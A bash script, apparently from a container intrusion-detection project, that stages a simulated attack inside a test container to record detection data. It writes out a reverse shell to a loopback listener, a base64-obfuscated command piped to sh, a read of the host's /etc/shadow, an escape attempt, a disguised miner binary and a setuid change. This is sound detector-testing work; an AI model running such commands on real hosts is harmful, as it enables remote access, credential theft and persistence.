#!/usr/bin/env bash
# Captures recordings/demo-kernel-incident.jsonl.gz: vigil recording a real host (dockerd, the
# kernel audit subsystem, /proc) while an intruder works through a container, beside a benign
# workload, and while its connection to dockerd drops for a moment (vigil reaches dockerd through
# a proxy the script pauses: a health alert); then writes the alerts it replays to. Needs root,
# dockerd, auditd and a built vigil.
set -euo pipefail
cd "$(dirname "$0")/.."

image=vigil-test/busybox:1
out=recordings/demo-kernel-incident.jsonl.gz
alerts=recordings/demo-kernel-incident.alerts.jsonl
names=(demo-web demo-worker demo-api)

cleanup() {
  docker rm -f "${names[@]}" >/dev/null 2>&1 || true
  [ -n "${listener:-}" ] && kill "$listener" 2>/dev/null || true
  [ -n "${proxy:-}" ] && kill "$proxy" 2>/dev/null || true
  rm -rf "${sockdir:-}"
}
trap cleanup EXIT
cleanup

# A peer for the reverse shell to call back to (loopback only): it types one command and leaves.
port=47001
(printf 'id\nsleep 3\nexit\n' | timeout 30 busybox nc -l -p "$port" >/dev/null 2>&1) &
listener=$!

sockdir=$(mktemp -d)
node scripts/docker-proxy.mjs "$sockdir/docker.sock" &
proxy=$!
sleep 1
DOCKER_HOST="unix://$sockdir/docker.sock" node bin/vigil.js record "$out" --duration 28 &
vigil=$!
sleep 3

# A benign worker, and an API server whose image whitelist is respected.
docker run -d --name demo-worker --network none "$image" sh -c 'while true; do ls / >/dev/null; sleep 2; done' >/dev/null
# The compromised web container: the Docker socket mounted, SYS_ADMIN granted.
docker run -d --name demo-web --network host --cap-add SYS_ADMIN -v /var/run/docker.sock:/var/run/docker.sock \
  -v /etc:/host-etc:ro "$image" sleep 300 >/dev/null
sleep 2
# The intruder: a reverse shell, reconnaissance, a payload, an escape attempt, persistence.
docker exec -d demo-web sh -c "nc 127.0.0.1 $port -e sh"
sleep 5
docker exec demo-web sh -c 'echo Y2F0IC9ob3N0LWV0Yy9ob3N0bmFtZQo= | base64 -d | sh' >/dev/null
docker exec demo-web sh -c 'cat /host-etc/shadow >/dev/null'
docker exec demo-web sh -c 'unshare -m true' || true
docker exec demo-web sh -c 'mkdir -p /tmp/.x && cp /bin/busybox /tmp/.x/xmrig && /tmp/.x/xmrig true' || true
docker exec demo-web sh -c 'chmod 4755 /bin/busybox' || true
# vigil loses dockerd for two seconds, then reconnects and resynchronises.
kill -USR2 "$proxy"; sleep 2; kill -USR2 "$proxy"

wait "$vigil"
node bin/vigil.js detect --replay "$out" --json > "$alerts"
echo "recorded $(zcat "$out" | wc -l) lines; $(wc -l < "$alerts") alerts on replay"
